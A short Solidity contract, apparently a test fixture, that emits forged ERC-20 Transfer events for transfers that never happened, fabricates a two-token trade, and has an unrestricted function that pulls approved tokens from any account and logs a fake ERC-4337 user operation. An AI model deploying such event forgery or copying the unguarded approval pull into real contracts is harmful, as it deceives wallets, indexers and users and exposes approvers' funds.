// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface IToken {
    function approve(address spender, uint256 amount) external returns (bool);
    function transfer(address to, uint256 amount) external returns (bool);
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function balanceOf(address owner) external view returns (uint256);
}

interface IRouter {
    function swap(address token, address[] calldata pairs, uint256 amount, bool unwraps) external payable;
}

/// A token that claims transfers which did not happen, and an entry point that swaps for an account.
contract TransferForger {
    event Transfer(address indexed from, address indexed to, uint256 amount);
    event UserOperationEvent(
        bytes32 indexed userOpHash,
        address indexed sender,
        address indexed paymaster,
        uint256 nonce,
        bool success,
        uint256 actualGasCost,
        uint256 actualGasUsed
    );

    string public constant name = "Forged";
    string public constant symbol = "FRG";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 1;

    function claim(address from, address to, uint256 amount) public {
        emit Transfer(from, to, amount);
    }

    /// Claims that an account gave this token and got another one.
    function claimTrade(address account, TransferForger other) external {
        claim(account, address(this), 1 ether);
        other.claim(address(this), account, 2 ether);
    }

    /// Swaps what an account approved, as a bundler does through an entry point of ERC-4337.
    function handle(address account, IToken token, IToken bought, uint256 amount, IRouter router, address[] calldata pairs)
        external
    {
        token.transferFrom(account, address(this), amount);
        token.approve(address(router), amount);
        router.swap(address(token), pairs, amount, false);
        bought.transfer(account, bought.balanceOf(address(this)));
        emit UserOperationEvent(0, account, address(0), 0, true, 0, 0);
    }
}
